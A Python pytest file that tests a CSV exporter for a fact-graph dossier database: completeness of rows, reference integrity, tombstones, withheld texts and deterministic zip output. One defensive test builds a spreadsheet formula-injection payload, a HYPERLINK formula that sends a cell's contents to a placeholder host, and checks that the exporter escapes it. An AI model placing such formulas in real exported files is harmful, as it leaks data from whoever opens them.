"""Tables: every record and link by id, spreadsheets kept from running anything, raw texts exact."""

import csv
import io
import sqlite3
import zipfile
from contextlib import closing
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from every_state import ACTS, every_state
from factgraph.formats.spreadsheets import lines, write
from factgraph.reading.sheets import Sheet, tables
from network_dossiers import DOSSIERS, STORY, TEXT, built, copied, opened, small, story
from samples import HEAD, write_dossier

# What each table is the export of, row by row; what has no line here has rows of its own choosing.
ROWS_OF = {
    "curators": "curator", "told": "told", "told_by": "told_by", "bounds": "bound", "positions": "stand",
    "standings": "standing", "standing_parts": "standing_part", "origins": "origin", "origin_parts": "origin_part",
    "answers": "answer", "calls": "call", "call_parts": "call_part", "changes": "change", "endings": "ending",
    "carried": "carried", "known": "attestation", "authors": "author", "rebuttal_targets": "rebuttal_target",
    "rebuttal_grounds": "rebuttal_ground", "roles": "role", "edges": "edge", "attestations": "attestation",
    "passages": "passage", "words": "words", "relays": "relay", "chains": "link", "relations": "relation",
    "aliases": "alias", "same_as": "same_as", "sizes": "stated_size", "corrections": "correction",
    "former_ids": "former_id", "tombstones": "tombstone", "translations": "translation", "claims": "claim",
    "topics": "topic", "sources": "source", "rebuttals": "rebuttal", "assessments": "assessment", "acts": "act",
}  # fmt: skip
RECORDS = ("actors", "sources", "topics", "places", "claims", "rebuttals", "assessments", "acts")
REFERENCES = {
    "actor", "object", "act", "source", "original", "node", "publisher", "found_by", "place", "premise", "target", "claim",
    "reviewer", "inside", "subject", "within", "on_behalf_of", "ended_by", "resumed_by", "follows", "first_act",
    "last_act", "call", "whom",
}  # fmt: skip

# Any character that a text of a dossier can hold; the database refuses lone surrogates.
texts = st.text(st.characters(codec="utf-8"))
cells = st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1), texts)


@pytest.fixture(scope="module", params=[*DOSSIERS, "story"])
def root(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp(request.param)
    return small(folder) if request.param == "story" else copied(request.param, folder)


def written(root: Path, target: Path, *, raw: bool = False, bom: bool = False) -> Path:
    with opened(root) as connection:
        write(connection, target, raw=raw, bom=bom)
    return target


def content(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream, strict=True))


def of_values(*values: object, raw: bool) -> str:
    """The table of one row that holds these values, as a database gives them back."""
    with closing(sqlite3.connect(":memory:")) as connection:
        columns = [f"c{number}" for number in range(len(values))]
        connection.execute(f"CREATE TABLE t ({', '.join(columns)})")
        connection.execute(f"INSERT INTO t VALUES ({', '.join('?' * len(values))})", values)
        return "".join(lines(Sheet(tuple(columns), connection.execute("SELECT * FROM t")), raw=raw))


def test_each_table_is_a_file_also_where_it_has_no_rows(root: Path, tmp_path: Path) -> None:
    folder = written(root, tmp_path / "tables")
    assert sorted(content(folder)) == sorted(f"{name}.csv" for name in tables())
    assert all(data.count(b"\r\n") >= 1 for data in content(folder).values())


def test_an_act_with_its_edges_roles_and_passages_is_told_by_ids(tmp_path: Path) -> None:
    folder = written(small(tmp_path), tmp_path / "tables")
    assert (folder / "edges.csv").read_bytes().decode() == (
        "actor,verb,pole,object,act,day\r\n"
        "ada,asserts,for,story/cracked,story/ada-says,2021-02-28\r\n"
        "ben,rebuts,against,story/ada-says,story/ben-rebuts,2021-02-28\r\n"
        "ben,denies,against,story/council-accuses,story/ben-denies,2021-03-01\r\n"
        "ben,rebuts,against,story/cracked,story/ben-rebuts,2021-02-28\r\n"
        "council,asserts,for,story/cracked,story/ada-says,2021-02-28\r\n"
    )
    assert [row for row in rows(folder / "roles.csv") if row["act"] == "story/ada-says"] == [
        {
            "act": "story/ada-says",
            "part": part,
            "position": position,
            "node": node,
            "capacity": capacity,
            "doubtful": "0",
            "interest": "",
            "stake": "",
            "interest_said": "",
        }
        for part, position, node, capacity in (
            ("actor", "1", "ada", "Keeper of the Tower"),
            ("actor", "2", "council", ""),
            ("addressee", "1", "gazette", ""),
            ("because", "1", "story/heard", ""),
            ("object", "1", "story/cracked", ""),
        )
    ]
    assert rows(folder / "words.csv") == [
        {"attestation": "story/ben-rebuts/attestation/story", "position": "1", "text": "It rings well", "lang": "en",
         "start": str(TEXT.index("It rings")), "stop": str(TEXT.index("”, he"))}
    ]  # fmt: skip
    assert rows(folder / "rebuttal_grounds.csv") == [
        {"id": "story/ben-rebuts/rebuttal", "position": "1", "ground": "contradicts"},
        {"id": "story/ben-rebuts/rebuttal", "position": "2", "ground": "undercuts"},
    ]


def test_a_denied_accusation_is_an_act_and_no_edge(tmp_path: Path) -> None:
    folder = written(small(tmp_path), tmp_path / "tables")
    assert [row["performed"] for row in rows(folder / "acts.csv") if row["id"] == "story/council-accuses"] == ["0"]
    assert [row for row in rows(folder / "edges.csv") if row["act"] == "story/council-accuses"] == []
    assert [row for row in rows(folder / "edges.csv") if (row["actor"], row["object"]) == ("council", "ada")] == []


def test_no_row_is_left_out(root: Path, tmp_path: Path) -> None:
    folder = written(root, tmp_path / "tables")
    with opened(root) as connection:
        counted = {
            name: connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0] for name, table in ROWS_OF.items()
        }
        live = connection.execute("SELECT count(*) FROM node WHERE id NOT IN (SELECT id FROM tombstone)").fetchone()[0]
    assert {name: len(rows(folder / f"{name}.csv")) for name in ROWS_OF} == counted
    assert sum(len(rows(folder / f"{name}.csv")) for name in RECORDS) == live


def test_an_act_of_every_state_says_how_it_is_told_and_only_the_performed_one_is_an_edge(tmp_path: Path) -> None:
    folder = written(every_state(tmp_path), tmp_path / "tables")
    acts = {row["id"]: row for row in rows(folder / "acts.csv")}
    assert {one.id: acts[one.id]["state"] for one in ACTS} == {one.id: one.state for one in ACTS}
    assert {row["act"]: row["state"] for row in rows(folder / "told.csv")} == {
        id: row["state"] for id, row in acts.items()
    }
    assert acts["story/eve-accuses"]["sentence"].startswith("Eve Orr is said by The Gazette to accuse Hal Dow")
    edges = {(row["actor"], row["verb"], row["object"]) for row in rows(folder / "edges.csv")}
    assert [one.state for one in ACTS if (one.actor, one.verb, one.object) in edges] == ["performed"]
    assert [row for row in rows(folder / "told_by.csv") if row["act"] == "story/eve-accuses"] == [
        {"act": "story/eve-accuses", "part": "disputed_in", "position": "1", "node": "later/eve-denies"},
        {"act": "story/eve-accuses", "part": "teller", "position": "1", "node": "gazette"},
    ]


def test_positions_tell_since_when_and_until_when_and_stances_those_that_are_held(tmp_path: Path) -> None:
    folder = written(every_state(tmp_path), tmp_path / "tables")
    (ida,) = (row for row in rows(folder / "positions.csv") if row["actor"] == "ida")
    told = ("claim", "pole", "basis", "state", "since_from", "since_to", "until_from", "ended_by", "how_ended")
    assert [ida[name] for name in told] == [
        "story/tuned", "for", "said", "performed", "2021-02-27", "2021-02-27", "2021-03-04", "later/ida-retracts",
        "claim-taken-back",
    ]  # fmt: skip
    held = {(row["actor"], row["pole"], row["claim"], row["basis"]) for row in rows(folder / "stances.csv")}
    assert held == {
        ("ada", "for", "story/cracked", "said"),
        ("ben", "against", "story/cracked", "said"),
        ("ben", "for", "later/sound", "counter"),
        ("ben", "for", "closed/bent", "said"),
    }
    standings = {row["claim"]: row["standing"] for row in rows(folder / "standings.csv")}
    assert (standings["story/tuned"], standings["story/sold"], standings["story/cracked"]) == (
        "retracted", "attributed-only", "contested",
    )  # fmt: skip


def test_where_records_may_be_withheld_no_origin_is_counted(tmp_path: Path) -> None:
    files = story()
    files["dossier.toml"] = HEAD.replace("\n[curators]", 'confidential = "possible"\n\n[curators]')
    folder = written(small(tmp_path, files), tmp_path / "tables")
    assert {row["at_most"] + row["ways"] for row in rows(folder / "origins.csv")} == {""}
    assert {row["is_open"] for row in rows(folder / "calls.csv")} <= {""}


def test_every_reference_leads_to_a_record(root: Path, tmp_path: Path) -> None:
    folder = written(root, tmp_path / "tables")
    known = {row["id"] for name in (*RECORDS, "tombstones") for row in rows(folder / f"{name}.csv")}
    for name in tables():
        for row in rows(folder / f"{name}.csv"):
            for column in REFERENCES & row.keys():
                assert row[column] in {*known, ""}, (name, column)
    attestations = {row["id"] for row in rows(folder / "attestations.csv")}
    for name in ("passages", "words", "relays", "chains"):
        assert {row["attestation"] for row in rows(folder / f"{name}.csv")} <= attestations


def test_tables_are_the_same_whatever_was_built_before(tmp_path: Path) -> None:
    other = write_dossier(tmp_path / "dossier", story())
    (other / "topics.yaml").write_text("zebra: {topic: zebra, status: reported}\n", "utf-8")
    (other / "dispatches" / "story.yaml").write_text(
        "source: story\nrecorded: {by: curator, on: 2021-04-01}\n", "utf-8"
    )
    built(other)
    write_dossier(other, story())
    built(other)
    once = content(written(small(tmp_path / "one"), tmp_path / "a"))
    assert content(written(other, tmp_path / "b")) == once


def test_a_text_that_may_not_be_shown_whole_is_in_no_table(tmp_path: Path) -> None:
    secret = "Had she rung it, she would have known, he wrote."
    closed, full = story(), story()
    closed["dispatches/story.yaml"] = STORY.replace("Had she rung it", "Had she rung")
    full["sources.yaml"] = "story: {article: The bell is cracked, access: full}\nreply: {letter: A reply}\n"
    folder = written(small(tmp_path / "closed", closed), tmp_path / "a")
    assert rows(folder / "texts.csv") == []
    assert not any(secret.encode() in data for data in content(folder).values())
    (text,) = rows(written(small(tmp_path / "full", full), tmp_path / "b") / "texts.csv")
    assert secret in text["text"]


def test_what_was_withdrawn_is_a_tombstone_alone(tmp_path: Path) -> None:
    files = story()
    files["topics.yaml"] = (
        "bell: {topic: the state of the bell, status: reported}\n"
        "tower: {place: The tower, withdrawn: {on: 2021-05-01, reason: named by mistake}}\n"
    )
    folder = written(small(tmp_path, files), tmp_path / "tables")
    assert rows(folder / "places.csv") == []
    assert rows(folder / "tombstones.csv") == [
        {"id": "tower", "kind": "place", "date": "2021-05-01", "reason": "named by mistake"}
    ]
    assert not any(b"The tower" in data for data in content(folder).values())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_that_a_spreadsheet_takes_for_a_formula_is_left(start: str) -> None:
    formula = start + 'HYPERLINK("http://x.example/?"&A1)'
    ((cell,),) = list(csv.reader(io.StringIO(of_values(formula, raw=False), newline="")))[1:]
    assert cell == f"'{formula}"


@given(st.lists(cells, min_size=2, max_size=4))
def test_raw_texts_come_back_exactly(values: list[object]) -> None:
    text = of_values(*values, raw=True)
    _, row = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert row == ["" if value is None else str(value) for value in values]


@given(texts)
def test_safe_texts_come_back_with_no_more_than_an_apostrophe(value: str) -> None:
    _, (cell, _) = csv.reader(io.StringIO(of_values(value, None, raw=False), newline=""), strict=True)
    assert cell in {value, f"'{value}"}
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_an_empty_text_is_told_from_nothing() -> None:
    assert of_values("", None, raw=True) == 'c0,c1\r\n"",\r\n'


def test_a_mark_at_the_start_says_utf_8_where_asked_for(tmp_path: Path) -> None:
    root = small(tmp_path)
    plain, marked = (content(written(root, tmp_path / name, bom=bom)) for name, bom in (("a", False), ("b", True)))
    assert marked == {name: b"\xef\xbb\xbf" + data for name, data in plain.items()}


def test_a_zip_file_holds_the_same_and_is_the_same_every_time(root: Path, tmp_path: Path) -> None:
    first = written(root, tmp_path / "tables.zip")
    with zipfile.ZipFile(first) as archive:
        assert archive.testzip() is None
        assert {name: archive.read(name) for name in archive.namelist()} == content(written(root, tmp_path / "tables"))
    assert written(root, tmp_path / "again.ZIP").read_bytes() == first.read_bytes()


def test_older_tables_in_the_folder_are_replaced_and_other_files_left(tmp_path: Path) -> None:
    root = small(tmp_path)
    folder = tmp_path / "tables"
    folder.mkdir()
    (folder / "acts.csv").write_text("old", "utf-8")
    (folder / "notes.txt").write_text("mine", "utf-8")
    written(root, folder)
    assert (folder / "acts.csv").read_text("utf-8").startswith("id,kind,")
    assert (folder / "notes.txt").read_text("utf-8") == "mine"
